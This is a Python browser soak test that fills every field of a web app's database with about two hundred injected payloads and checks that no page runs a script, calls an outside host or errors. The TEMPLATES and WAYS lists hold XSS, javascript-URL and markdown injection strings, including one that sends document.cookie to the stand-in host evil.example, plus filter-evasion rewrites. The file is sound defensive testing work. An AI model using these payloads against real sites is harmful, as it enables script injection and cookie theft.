"""Two hundred payloads in every field of a full database: no page runs one or calls out.

`python -m tests.soak payloads` gives the full figures as JSON. The browser ignores the app's own
content security policy, so that what holds is the pages, not the last line behind them.
"""

from __future__ import annotations

import random
import shutil
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from tempfile import TemporaryDirectory

from playwright.sync_api import Page, expect

from tests.browser.app_server import chromium_page, running_app, wait_until_quiet
from tests.soak.figures import follow, report
from tests.soak.full_database import make_full, poison

HIT = "window.hit=(window.hit||0)+1"
OUT = "http://evil.example"
# {js} runs, {out} is asked for; each is written in several ways below
TEMPLATES = (
    *("<script>{js}</script>", "<img src=x onerror='{js}'>", "<svg onload='{js}'>"),
    *("<svg/onload={js}>", "<body onload='{js}'>", "<details open ontoggle='{js}'>x</details>"),
    *("<input autofocus onfocus='{js}'>", "<video><source onerror='{js}'></video>"),
    *("<iframe srcdoc='<script>parent.{js}</script>'></iframe>", "<iframe src='{out}/i'></iframe>"),
    *("</textarea><script>{js}</script>", "</style></title><script>{js}</script>"),
    *('"><script>{js}</script>', "'><img src=x onerror={js}>", "--><script>{js}</script>"),
    *("<img src='{out}/p.png'>", "<link rel=stylesheet href='{out}/s.css'>"),
    *("<style>@import '{out}/s.css';</style>", "<div style='background:url({out}/b)'>x</div>"),
    *("<object data='{out}/o'></object>", "<embed src='{out}/e'>", "<base href='{out}/'>"),
    *(
        "<meta http-equiv=refresh content='0;url={out}/m'>",
        "<audio src='{out}/a' autoplay></audio>",
    ),
    *("<form action='{out}'><button id=b></form>", "<picture><source srcset='{out}/s'></picture>"),
    *("![x]({out}/p.png)", "![x][r]\n\n[r]: {out}/p.png", "[![x]({out}/p.png)]({out}/l)"),
    *("![x](<{out}/p.png> 'title')", "![]({out}/p.png?{{{{document.cookie}}}})"),
    *("[x](javascript:{js})", "<javascript:{js}>", "[x](data:text/html,<script>{js}</script>)"),
    *("$\\includegraphics{{{out}/p.png}}$", "$$\\href{{javascript:{js}}}{{x}}$$", "{{{{{js}}}}}"),
    *(":red[![x]({out}/p.png)]", ":material/home: ![x]({out}/p.png)", "# ![x]({out}/p.png)"),
    *("| a |\n|---|\n| ![x]({out}/p.png) |", "> ![x]({out}/p.png)", "* ![x]({out}/p.png)"),
    *("a\n\n![x]({out}/p.png)", "`a` ![x]({out}/p.png)", "**![x]({out}/p.png)**"),
    *("\\![x]({out}/p.png)", "\\\\![x]({out}/p.png)", "`` ` ![x]({out}/p.png)", "[^1]: {out}/f"),
)
# how the same is written so that a filter may miss it
WAYS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("onerror", "OnErRoR"),
    lambda text: text.replace("javascript:", "java\tscript:").replace("http:", ""),
    lambda text: text.replace("<", "<\n", 1).replace("](", "](\t"),
    lambda text: text.replace("evil", "&#101;vil").replace("window", "&#x77;indow"),
    lambda text: text.replace("evil.example", "EVIL.example:80").replace("{js}", "({js})"),
)
PAYLOADS = tuple(dict.fromkeys(way(t.format(js=HIT, out=OUT)) for t in TEMPLATES for way in WAYS))
MOST = 200
TOGETHER = 25  # payloads in one field, parted by empty lines so that each stands for itself
PATHS = (
    *(
        "",
        "questions",
        "generate",
        "review",
        "clean",
        "clean?tab=Judge",
        "clean?tab=Worth",
        "launch",
        "runs?run=1",
        "runs?run=3",
    ),
    *("results", "compare?a=2&b=3", "inspect?run=3", "attribution", "what-if", "health", "people"),
)
PATIENCE_MS = 240_000  # a busy machine
PLAYWRIGHTS_OWN_MS = 5_000
OWN_DOWNLOAD = "[data-testid=stElementToolbarButton] button[aria-label^='Download as CSV']"
HEADING = "[data-testid=stMain] :is(h1, h2, h3, h4, h5, .stAlert)"


@dataclass
class Walked:
    """What a browser met on every page with payloads in every field."""

    seed: int
    payloads: int = 0
    fields: int = 0
    pages: int = 0
    pages_in_error: list[str] = field(default_factory=list)
    scripts_run: list[str] = field(default_factory=list)
    outside_requests: list[str] = field(default_factory=list)
    tables: int = 0
    raw_downloads: list[str] = field(default_factory=list)

    @property
    def agree(self) -> bool:
        """True when nothing ran or was asked for, every page was drawn, and no table leaves raw."""
        wrong = (self.pages_in_error, self.scripts_run, self.outside_requests, self.raw_downloads)
        return not any(wrong)


def soak_payloads(
    folder: Path, *, payloads: Sequence[str], seed: int, paths: Sequence[str] = PATHS
) -> Walked:
    """Walk every page once for each 25 payloads, all of them in every field."""
    counts = Walked(seed)
    follow("pages", counts)
    template = folder / "full.db"
    make_full(template)
    order = list(payloads)
    random.Random(seed).shuffle(order)
    for start in range(0, len(order), TOGETHER):
        some = order[start : start + TOGETHER]
        home = folder / f"home-{start}"
        home.mkdir()
        shutil.copy(template, home / "scicot.db")
        counts.fields = poison(home / "scicot.db", partial(put_into, payloads=some))
        with (
            running_app(home, folder / "app.log") as address,
            chromium_page(ignores_policy=True) as page,
        ):
            walk(page, address, counts, paths)
        counts.payloads += len(some)
    return counts


def put_into(text: str, payloads: Sequence[str]) -> str:
    """Return the text with the payloads behind it; which comes first depends on the text."""
    first = zlib.crc32(text.encode()) % len(payloads)
    return "\n\n".join([text, *payloads[first:], *payloads[:first]])


def walk(page: Page, address: str, counts: Walked, paths: Sequence[str]) -> None:
    """Open every page, unfold what it folds, and note what ran, was asked for or failed."""
    note_what_happens(page, address, counts)
    page.set_default_timeout(PATIENCE_MS)
    expect.set_options(timeout=PATIENCE_MS)
    for path in paths:
        page.goto(f"{address}/{path}")
        page.locator(HEADING).first.wait_for()
        wait_until_quiet(page)
        for fold in page.locator("summary").all():
            if fold.is_visible():
                fold.click()
        wait_until_quiet(page)
        counts.pages += 1
        look_at_tables(page, path, counts)
        if was_run(page):
            counts.scripts_run.append(path)
        if page.get_by_text("Something unexpected happened").count():
            said = page.get_by_text("Something unexpected happened").first.inner_text()
            counts.pages_in_error.append(f"{path}: {said[:150]}")
    expect.set_options(timeout=PLAYWRIGHTS_OWN_MS)


def look_at_tables(page: Page, path: str, counts: Walked) -> None:
    """Count the tables, and note one whose own download, with formulas as they are, is offered."""
    for table in page.get_by_test_id("stDataFrame").all():
        table.hover()  # its own buttons show where the pointer is
        button = page.locator(OWN_DOWNLOAD).first
        button.wait_for(state="attached")
        counts.tables += 1
        button.evaluate("button => button.focus()")
        if button.evaluate("b => b.checkVisibility() || b === document.activeElement"):
            counts.raw_downloads.append(path)


def note_what_happens(page: Page, address: str, counts: Walked) -> None:
    """Let every request that leaves the app's own address be noted."""
    own = (address, address.replace("http", "ws"), "data:", "blob:", "about:")

    def note(url: str) -> None:
        if not url.startswith(own):
            counts.outside_requests.append(f"{page.url.removeprefix(address)}: {url[:200]}")

    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("request", lambda request: note(request.url))


def was_run(page: Page) -> bool:
    """Return whether a payload's script has run on the page."""
    return bool(page.evaluate("window.hit || 0"))


def main() -> None:
    with report("payloads", __doc__, payloads=MOST) as asked, TemporaryDirectory() as folder:
        some = PAYLOADS[: asked.payloads]
        soak_payloads(Path(folder), payloads=some, seed=asked.seed)
